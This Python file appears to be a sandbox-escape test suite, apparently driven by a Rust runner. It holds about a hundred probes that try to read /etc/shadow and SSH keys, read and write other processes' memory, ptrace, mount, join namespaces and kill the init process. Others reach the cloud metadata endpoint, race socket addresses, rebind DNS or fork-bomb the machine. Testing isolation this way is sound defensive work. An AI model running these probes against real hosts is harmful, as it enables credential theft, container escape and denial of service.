"""Ways out of a sandbox. Each attempt gives something that is true if it got what it wanted; an error is a refusal.

Run by `escape.rs`, one instance for each: `attempt(name)` says "held: ..." or "ESCAPED: ...".
"""
import ctypes
import errno
import fcntl
import mmap
import os
import signal
import socket
import struct
import subprocess
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
E = os.environ
ATTEMPTS = {}
TEMPLATE = os.getppid()


def attempting(function):
    ATTEMPTS[function.__name__] = function
    return function


def attempt(name):
    global TEMPLATE
    TEMPLATE = os.getppid()
    try:
        got = ATTEMPTS[name]()
    except (OSError, subprocess.SubprocessError, MemoryError, ValueError) as error:
        return f"held: {error}"
    return f"ESCAPED: {got!r}" if got else f"held: {got!r}"


def call(number, *arguments):
    """A system call: what it gave. An error is raised."""
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result + 1  # 0 is success too


def read(path):
    with open(path, "rb") as file:
        return file.read(64)


def write(path, data=b"1"):
    with open(path, "wb", buffering=0) as file:
        return file.write(data)


def any_of(action, *many):
    """The first that works, or the last refusal."""
    refusal = None
    for one in many:
        try:
            if got := action(one):
                return one, got
        except OSError as error:
            refusal = error
    if refusal is not None:
        raise refusal
    return None


# ---- files

@attempting
def reads_the_hosts_passwords():
    return any_of(read, "/etc/shadow", "/etc/gshadow", "/root/.bashrc", "/root/.ssh/id_rsa")


@attempting
def reads_a_file_of_the_host_by_its_path():
    return read(E["SECRET_FILE"])


@attempting
def climbs_out_of_the_code():
    return any_of(read, *("/var/task" + "/.." * n + E["SECRET_FILE"] for n in (2, 3, 9)))


@attempting
def goes_through_the_root_of_the_nanny():
    return any_of(read, *(f"/proc/1/{way}{E['SECRET_FILE']}" for way in ("root", "cwd")))


@attempting
def goes_through_its_own_root():
    return any_of(read, f"/proc/self/root{E['SECRET_FILE']}", f"/proc/self/cwd/../../..{E['SECRET_FILE']}")


@attempting
def goes_through_the_descriptors_of_the_nanny():
    return any_of(lambda n: os.readlink(f"/proc/1/fd/{n}"), *range(8)) or any_of(lambda n: os.open(f"/proc/1/fd/{n}", os.O_RDONLY), *range(8))


@attempting
def links_to_a_file_of_the_host():
    os.symlink(E["SECRET_FILE"], "/tmp/link")
    return read("/tmp/link")


@attempting
def finds_a_folder_among_its_descriptors():
    for number in os.listdir("/proc/self/fd"):
        try:
            os.stat("..", dir_fd=int(number))
            if os.readlink(f"/proc/self/fd/{number}") not in ("/proc/self/fd", f"/proc/{os.getpid()}/fd"):
                return os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            pass
    return None


@attempting
def writes_into_the_code():
    return any_of(write, "/var/task/handler.py", "/var/task/new.py")


@attempting
def writes_into_the_runtime():
    return any_of(write, os.__file__, "/usr/bin/python3", "/etc/passwd", "/etc/resolv.conf", "/new")


@attempting
def changes_the_mode_of_the_code():
    os.chmod("/var/task/attempts.py", 0o777)
    return True


@attempting
def opens_a_file_by_its_handle():
    handle = ctypes.create_string_buffer(struct.pack("=II", 8, 1) + struct.pack("=Q", 2), 64)
    return call(304, 3, handle, os.O_RDONLY)


@attempting
def makes_a_device():
    os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))
    return read("/tmp/disk")


@attempting
def reads_the_memory_of_the_machine():
    return any_of(read, "/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/vda", "/dev/sda")


@attempting
def changes_the_kernel_by_its_files():
    return any_of(write, "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper",
                  "/proc/sys/vm/overcommit_memory", "/proc/self/oom_score_adj")


@attempting
def writes_its_own_ids():
    return any_of(lambda f: write(f"/proc/self/{f}", b"0 0 1"), "uid_map", "gid_map")


@attempting
def becomes_root_by_a_program():
    for program in ("/bin/su", "/usr/bin/su", "/usr/bin/sudo", "/bin/mount", "/usr/bin/passwd", "/usr/bin/newgrp"):
        if os.path.exists(program):
            subprocess.run([program, "--help"], capture_output=True)
    script = "import os; os.setuid(0); print(os.getuid())"
    return b"0" == subprocess.run(["/usr/bin/python3", "-c", script], capture_output=True).stdout.strip()


@attempting
def becomes_another_user():
    return any_of(lambda uid: os.setuid(uid) or True, 0, 65534, 1, 231073)


@attempting
def has_a_capability_left():
    status = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    return [name for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(status[name], 16)] or status["NoNewPrivs"] != "1"


# ---- memory and descriptors of others

def others():
    return [TEMPLATE, 1, int(E.get("SIBLING", TEMPLATE))]


@attempting
def reads_the_environment_of_others():
    return any_of(lambda pid: read(f"/proc/{pid}/environ"), *others())


@attempting
def reads_the_memory_of_others():
    def body(pid):
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            memory.seek(id(ATTEMPTS))
            return memory.read(16)
    return any_of(body, *others())


@attempting
def writes_into_the_template():
    with open(f"/proc/{TEMPLATE}/mem", "r+b", buffering=0) as memory:
        memory.seek(id(ATTEMPTS) + 16)
        return memory.write(b"12345678")


@attempting
def looks_at_the_maps_of_others():
    return any_of(lambda pid: read(f"/proc/{pid}/maps"), *others())


@attempting
def takes_the_descriptors_of_others():
    return any_of(lambda one: os.open("/proc/%d/fd/%d" % one, os.O_RDONLY), *((pid, n) for pid in others() for n in range(5)))


@attempting
def reads_memory_by_a_call():
    here, there = ctypes.create_string_buffer(16), id(ATTEMPTS)
    local, remote = struct.pack("QQ", ctypes.addressof(here), 16), struct.pack("QQ", there, 16)
    return any_of(lambda pid: call(310, pid, local, 1, remote, 1, 0), *others())


@attempting
def writes_memory_by_a_call():
    here = ctypes.create_string_buffer(16)
    local, remote = struct.pack("QQ", ctypes.addressof(here), 16), struct.pack("QQ", id(ATTEMPTS) + 16, 16)
    return any_of(lambda pid: call(311, pid, local, 1, remote, 1, 0), *others())


@attempting
def traces_others():
    return any_of(lambda pid: call(101, 16, pid, 0, 0), *others()) or any_of(lambda pid: call(101, 0x4206, pid, 0, 0), *others())


@attempting
def takes_a_descriptor_by_a_call():
    return any_of(lambda pid: call(438, os.pidfd_open(pid), 3, 0), *others())


@attempting
def compares_with_others():
    return any_of(lambda pid: call(312, os.getpid(), pid, 0, 3, 3), *others())


@attempting
def advises_others_on_their_memory():
    return any_of(lambda pid: call(440, os.pidfd_open(pid), struct.pack("QQ", id(ATTEMPTS), 16), 1, 21, 0), *others())


@attempting
def goes_through_the_root_of_others():
    return any_of(lambda pid: os.listdir(f"/proc/{pid}/root/tmp"), *others())


@attempting
def sees_processes_of_the_host():
    return len([n for n in os.listdir("/proc") if n.isdigit()]) > 12 or any(os.path.exists(f"/proc/{E[n]}/comm") and int(E[n]) > 500 for n in ("HOST_PID", "NEIGHBOUR_PID"))


# ---- signals

@attempting
def kills_the_nanny():
    return any_of(lambda s: os.kill(1, s) or time.sleep(0.05) or not os.path.exists("/proc/1"), signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM)


@attempting
def kills_its_template():
    os.kill(TEMPLATE, signal.SIGKILL)
    return True


@attempting
def kills_its_sibling():
    os.kill(int(E["SIBLING"]), signal.SIGKILL)
    return True


@attempting
def kills_everybody():
    # Succeeds if there is anybody at all whom it may signal: a child of its own.
    child = subprocess.Popen(["/bin/sleep", "9"])
    os.kill(-1, signal.SIGCONT)
    os.kill(-1, 0)
    child.kill()
    os.kill(TEMPLATE, 0)
    return True


@attempting
def kills_a_process_of_the_host():
    return any_of(lambda n: os.kill(int(E[n]), 0) or True, "HOST_PID", "NEIGHBOUR_PID")


# ---- talking past the network

@attempting
def connects_to_an_abstract_socket_of_the_host():
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + E["ABSTRACT"])
    return s.recv(100)


@attempting
def connects_to_a_socket_of_the_host_by_its_path():
    s = socket.socket(socket.AF_UNIX)
    return any_of(lambda path: s.connect(path) or True, E["SOCKET_FILE"], "/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private")


@attempting
def connects_to_a_socket_among_what_is_shown():
    def body(path):
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        return True
    os.symlink(E["SHOWN_SOCKET"], "/tmp/link")
    os.chdir(os.path.dirname(E["SHOWN_SOCKET"]))
    return any_of(body, E["SHOWN_SOCKET"], "/tmp/link", "socket", "/tmp/../.." + E["SHOWN_SOCKET"])


@attempting
def exchanges_the_path_of_a_socket_while_it_is_looked_at():
    own = socket.socket(socket.AF_UNIX)
    own.bind("/tmp/own-socket-here")
    own.listen(1000)
    good, bad = (struct.pack("=H", 1) + path.encode().ljust(60, b"\0") for path in ("/tmp/own-socket-here", E["SHOWN_SOCKET"]))
    buffer, stop, wins = ctypes.create_string_buffer(good, 62), [], 0

    def flip():
        while not stop:
            buffer[0:62] = bad
            buffer[0:62] = good
    thread = threading.Thread(target=flip)
    thread.start()
    for _ in range(200):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(0.01)
        if libc.connect(s.fileno(), buffer, 62) == 0:
            try:
                wins += b"secret" in s.recv(30)
            except OSError:
                pass
        s.close()
    stop.append(1)
    thread.join()
    return wins


@attempting
def finds_shared_memory_of_the_host():
    return any_of(lambda _: call(29, int(E["SHM_KEY"]), 0, 0), 1)


@attempting
def opens_a_socket_of_another_family():
    def body(one):
        socket.socket(*one)
        return True
    return any_of(body, (17, 3, 0), (40, 1, 0), (38, 5, 0), (31, 3, 1), (16, 3, 9), (16, 3, 15), (16, 3, 16), (29, 3, 1), (44, 2, 0), (15, 3, 2))


@attempting
def opens_a_raw_socket():
    return any_of(lambda family: socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP) and True, socket.AF_INET, socket.AF_INET6)


@attempting
def changes_the_network():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    # RTM_NEWADDR: 10.9.9.9/32 on lo
    body = struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton("10.9.9.9"))
    s.send(struct.pack("=IHHII", 16 + len(body), 20, 5 | 0x400, 1, 0) + body)
    code = struct.unpack_from("=i", s.recv(1000), 16)[0]
    return code == 0


# ---- namespaces and mounts

@attempting
def makes_namespaces():
    return any_of(lambda flag: call(272, flag), 0x10000000, 0x20000, 0x10020000, 0x18020000, 0x40000000, 0x20000000, 0x8000000, 0x4000000, 0x2000000, 0x80, 0x7E020080)


@attempting
def forks_into_namespaces():
    def body(flag):
        pid = call(56, flag | 17, 0, 0, 0, 0) - 1
        if pid == 0:
            os._exit(0)
        return pid
    return any_of(body, 0x10000000, 0x10020000, 0x18020000, 0x50000000, 0x30000000, 0x80)


@attempting
def forks_by_the_newer_call():
    arguments = struct.pack("=8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0)
    return call(435, arguments, len(arguments))


@attempting
def joins_other_namespaces():
    def body(path):
        with open(path) as file:
            return call(308, file.fileno(), 0)
    return any_of(body, *(f"/proc/{pid}/ns/{kind}" for pid in others() for kind in ("mnt", "user", "net", "pid")))


@attempting
def joins_a_process():
    return any_of(lambda pid: call(308, os.pidfd_open(pid), 0x20000), *others())


@attempting
def mounts():
    return any_of(lambda one: call(165, *one), (b"x", b"/tmp", b"tmpfs", 0, 0), (b"proc", b"/proc", b"proc", 0, 0), (b"", b"/", 0, 0x1020, 0), (b"/", b"/tmp", 0, 0x1000, 0))


@attempting
def makes_the_root_writable():
    return any_of(lambda path: call(165, b"", path, 0, 0x20 | 0x1000, 0), b"/", b"/usr", b"/var/task")


@attempting
def takes_a_mount_away():
    return any_of(lambda path: call(166, path, 2), b"/tmp", b"/proc", b"/instance/tmp", b"/var/task")


@attempting
def changes_its_root():
    return any_of(lambda number: call(number, b"/tmp", b"/tmp"), 161, 155)


@attempting
def mounts_by_the_newer_calls():
    def body(one):
        return call(*one)
    return any_of(body, (430, b"tmpfs", 0), (428, -100, b"/", 1), (432, 3, 0, 0), (433, -100, b"/", 0), (429, 3, b"", -100, b"/tmp", 4), (442, -100, b"/", 0, ctypes.create_string_buffer(32), 32))


# ---- the kernel

@attempting
def lists_the_keys_of_the_host():
    return read("/proc/keys") or read("/proc/key-users")


@attempting
def has_a_module_loaded_for_a_protocol():
    return any_of(lambda one: socket.socket(*one) and True, (2, 1, 132), (2, 5, 132), (10, 1, 132), (2, 6, 33), (2, 1, 262), (2, 2, 136))


@attempting
def uses_keyrings():
    return any_of(lambda one: call(*one), (250, 0, -4, 1), (248, b"user", b"x", b"y", 1, -4), (249, b"user", b"x", 0, 0))


@attempting
def loads_a_program_into_the_kernel():
    return any_of(lambda command: call(321, command, ctypes.create_string_buffer(128), 128), 0, 5)


@attempting
def uses_io_uring():
    return any_of(lambda n: call(n, 8, ctypes.create_string_buffer(256), 0, 0, 0, 0), 425, 426, 427)


@attempting
def stops_the_kernel_in_a_copy():
    return any_of(lambda flags: call(323, flags), 0, 1)


@attempting
def loads_another_kernel():
    return any_of(lambda one: call(*one), (246, 0, 0, 0, 0), (320, 0, 0, 0, 0, 0), (169, 0xfee1dead, 672274793, 0, 0), (175, 0, 0, b""), (313, 0, b"", 0), (176, b"x", 0))


@attempting
def watches_by_counters():
    return call(298, ctypes.create_string_buffer(struct.pack("=IIQ", 1, 128, 0), 128), 0, -1, -1, 0)


@attempting
def watches_files_of_others():
    return call(300, 0, 0)


@attempting
def reads_the_log_of_the_kernel():
    return any_of(lambda what: call(103, what, ctypes.create_string_buffer(100), 100), 3, 10) or any_of(read, "/dev/kmsg", "/proc/kmsg")


@attempting
def changes_the_machine():
    return any_of(lambda one: call(*one), (167, b"/tmp/x", 0), (163, b"/tmp/x"), (170, b"x", 1), (171, b"x", 1), (164, struct.pack("QQ", 1, 1), 0), (227, 0, struct.pack("QQ", 1, 1)), (172, 3), (173, 0, 1, 1), (153,))


@attempting
def turns_randomness_of_addresses_off():
    return call(135, 0x0040000)


@attempting
def answers_in_our_place():
    program = struct.pack("=HxxxxxxQ", 1, ctypes.addressof(ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0x7fff0000), 8)))
    return call(317, 1, 8, program)


@attempting
def calls_by_another_interface():
    return any_of(lambda number: call(0x40000000 + number, 0, 0, 0), 39, 272, 165)


@attempting
def calls_as_a_32_bit_program():
    """In a child: a foreign interface is answered by a kill."""
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # getpid by int 0x80
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    pid = os.fork()
    if pid == 0:
        os._exit(1 if run() > 0 else 0)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 1


@attempting
def locks_memory_that_nobody_counts():
    return call(447, 0)


@attempting
def pushes_keys_into_a_terminal():
    return call(16, 0, 0x5412, b"x")


# ---- the network

def get(address, family=socket.AF_INET):
    s = socket.socket(family)
    s.settimeout(2)
    s.connect(address)
    s.sendall(b"ping")
    return s.recv(16)


@attempting
def asks_for_the_metadata_of_the_machine():
    return any_of(get, ("169.254.169.254", 80), ("169.254.170.2", 80)) or get(("::ffff:169.254.169.254", 80), socket.AF_INET6)


@attempting
def connects_to_the_loopback_of_the_host():
    port = int(E["SECRET_PORT"])
    return any_of(get, ("127.0.0.1", port), ("127.9.9.9", port), ("0.0.0.0", port))


@attempting
def connects_to_the_loopback_by_another_name():
    port = int(E["SECRET_PORT"])
    return any_of(lambda name: get((name, port), socket.AF_INET6), "::1", "::ffff:127.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "::ffff:0:127.0.0.1")


@attempting
def sends_datagrams_to_the_loopback_of_the_host():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    s.sendto(b"ping", ("127.0.0.1", int(E["SECRET_PORT"])))
    return s.recv(16)


@attempting
def connects_without_connecting():
    s = socket.socket()
    s.settimeout(2)
    s.sendto(b"ping", 0x20000000, ("127.0.0.1", int(E["SECRET_PORT"])))
    return s.recv(16)


@attempting
def disconnects_and_connects_elsewhere():
    s = socket.create_connection((E["OUTSIDE_HOST"], int(E["OUTSIDE_PORT"])), 3)
    libc.connect(s.fileno(), struct.pack("HH12x", 0, 0), 16)
    s.connect(("127.0.0.1", int(E["SECRET_PORT"])))
    return s.recv(16)


@attempting
def rebinds_a_name_between_two_questions():
    server, answers = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), [E["OUTSIDE_HOST"], "127.0.0.1", "169.254.169.254"] * 4
    server.bind(("127.0.0.1", 0))

    def serve():
        for address in answers:
            asked, peer = server.recvfrom(512)
            answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x00\x00\x04" + socket.inet_aton(address)
            server.sendto(asked[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + asked[12:] + answer, peer)

    def look_up():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0\6rebind\4test\0\0\1\0\1", server.getsockname())
        return socket.inet_ntoa(s.recv(512)[-4:])
    threading.Thread(target=serve, daemon=True).start()
    reached = []
    for _ in range(len(answers) // 2):
        for port in (int(E["SECRET_PORT"]), 80):
            try:
                with socket.create_connection((look_up(), port), 0.3) as s:
                    s.sendall(b"ping")
                    reached.append(s.recv(16))
            except OSError:
                pass
    return any(b"secret" in one for one in reached)


@attempting
def asks_where_the_clouds_names_lead_for_what_is_not_ours():
    return any_of(get, ("192.0.2.1", int(E["SECRET_PORT"])), ("192.0.2.2", 443), ("192.0.2.1", 22))


@attempting
def changes_the_address_while_it_is_looked_at():
    out = struct.pack("!2sH4s8x", struct.pack("H", 2), int(E["OUTSIDE_PORT"]), socket.inet_aton(E["OUTSIDE_HOST"]))
    bad = struct.pack("!2sH4s8x", struct.pack("H", 2), int(E["SECRET_PORT"]), socket.inet_aton("127.0.0.1"))
    buffer, stop, wins = ctypes.create_string_buffer(out, 16), [], 0

    def flip():
        while not stop:
            buffer[0:16] = bad
            buffer[0:16] = out
    thread = threading.Thread(target=flip)
    thread.start()
    for _ in range(200):
        s = socket.socket()
        s.settimeout(1)
        if libc.connect(s.fileno(), buffer, 16) == 0:
            try:
                s.sendall(b"ping")
                wins += b"secret" in s.recv(16)
            except OSError:
                pass
        s.close()
    stop.append(1)
    thread.join()
    return wins


@attempting
def changes_the_socket_while_it_is_looked_at():
    target, spare, stop, wins = socket.socket(), socket.socket(), [], 0
    spare.connect((E["OUTSIDE_HOST"], int(E["OUTSIDE_PORT"])))
    fresh = os.dup(target.fileno())

    def flip():
        while not stop:
            os.dup2(spare.fileno(), target.fileno())
            os.dup2(fresh, target.fileno())
    thread = threading.Thread(target=flip)
    thread.start()
    bad = struct.pack("!2sH4s8x", struct.pack("H", 2), int(E["SECRET_PORT"]), socket.inet_aton("127.0.0.1"))
    for _ in range(200):
        wins += libc.connect(target.fileno(), bad, 16) == 0
    stop.append(1)
    thread.join()
    return wins


@attempting
def takes_our_place_as_a_service():
    def body(one):
        kind, address = one
        s = socket.socket(socket.AF_INET, kind)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(address)
        if kind == socket.SOCK_STREAM:
            s.listen()
        return True
    return any_of(body, (socket.SOCK_STREAM, ("127.0.0.1", 4566)), (socket.SOCK_DGRAM, ("127.0.0.1", 53)), (socket.SOCK_STREAM, ("0.0.0.0", 53)), (socket.SOCK_DGRAM, ("0.0.0.0", 53)))


@attempting
def has_a_socket_of_the_host():
    """Its own network, by its interfaces; and no socket that is not its channel or of that network."""
    return [name for _, name in socket.if_nameindex() if name != "lo"]


# ---- too much of everything

@attempting
def forks_without_end():
    children = []
    try:
        for _ in range(5000):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    return len(children) if len(children) > 400 else 0


@attempting
def starts_threads_without_end():
    stop, count = threading.Event(), 0
    try:
        for _ in range(5000):
            threading.Thread(target=stop.wait, daemon=True).start()
            count += 1
    except RuntimeError:
        pass
    stop.set()
    return count if count > 400 else 0


@attempting
def opens_files_without_end():
    files = []
    try:
        while len(files) < 100_000:
            files.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    return len(files) if len(files) > 2000 else 0


@attempting
def fills_tmp():
    total = 0
    with open("/tmp/big", "wb", buffering=0) as file:
        while total < 1 << 28:
            total += file.write(bytes(1 << 20))
    return total


@attempting
def makes_files_without_end():
    for n in range(1_000_000):
        os.close(os.open(f"/tmp/{n}", os.O_CREAT | os.O_WRONLY))
    return True


@attempting
def raises_its_limits():
    import resource
    for which in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_CORE, resource.RLIMIT_MEMLOCK):
        soft, hard = resource.getrlimit(which)
        try:
            resource.setrlimit(which, (hard + 1, hard + 1))
            return which
        except (ValueError, OSError):
            pass
    return None


@attempting
def holds_memory_in_place():
    memory = mmap.mmap(-1, 64 << 20)
    if libc.mlock(ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(memory))), ctypes.c_size_t(64 << 20)) < 0:
        raise OSError(ctypes.get_errno(), "mlock")
    return True


@attempting
def runs_before_everybody():
    def body(one):
        os.sched_setscheduler(0, one, os.sched_param(1 if one else 0))
        return True
    return any_of(body, os.SCHED_FIFO, os.SCHED_RR) or (os.nice(-5), True)


@attempting
def leaves_a_dump_of_memory():
    pid = os.fork()
    if pid == 0:
        os.abort()
    return os.WCOREDUMP(os.waitpid(pid, 0)[1])


# ---- what is counted for the whole machine, or for a user of it

@attempting
def takes_the_events_of_the_whole_machine():
    context = ctypes.c_ulong(0)
    return call(206, 60_000, ctypes.byref(context))


@attempting
def holds_up_whoever_writes_a_file():
    write("/tmp/leased")
    with open("/tmp/leased") as file:
        return any_of(lambda one: fcntl.fcntl(file.fileno(), *one) + 1, (1024, fcntl.F_RDLCK), (1026, 2))


@attempting
def takes_huge_pages():
    return any_of(lambda flags: call(319, b"x", flags), 4, 4 | 21 << 26) or mmap.mmap(-1, 2 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)


@attempting
def watches_files_without_end():
    count, watches = 0, []
    try:
        while count < 1000:
            watches.append(call(294, 0) - 1)
            count += 1
    except OSError:
        pass
    return count if count > 64 else 0


@attempting
def keeps_signals_without_end():
    count = 0
    try:
        while count < 50_000:
            timer = ctypes.c_int()
            call(222, 1, struct.pack("=Qii48x", 0, 34, 0), ctypes.byref(timer))
            count += 1
    except OSError:
        pass
    return count if count > 5_000 else 0


@attempting
def finds_the_host_behind_a_descriptor():
    """The process that serves us can be held, and is not to be reached by that."""
    held, length = ctypes.c_int(), ctypes.c_int(4)
    pair = socket.socket(socket.AF_UNIX)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("/tmp/listener")
    listener.listen()
    pair.connect("/tmp/listener")
    accepted, _ = listener.accept()
    if libc.getsockopt(accepted.fileno(), 1, 77, ctypes.byref(held), ctypes.byref(length)) < 0:
        return False
    attempts = [(424, held.value, 0, 0, 0), (308, held.value, 0x20000), (438, held.value, 0, 0)]
    attempts += [(16, held.value, 0xFF00 + number, 0) for number in range(1, 11)]
    return any_of(lambda one: call(*one), *attempts)
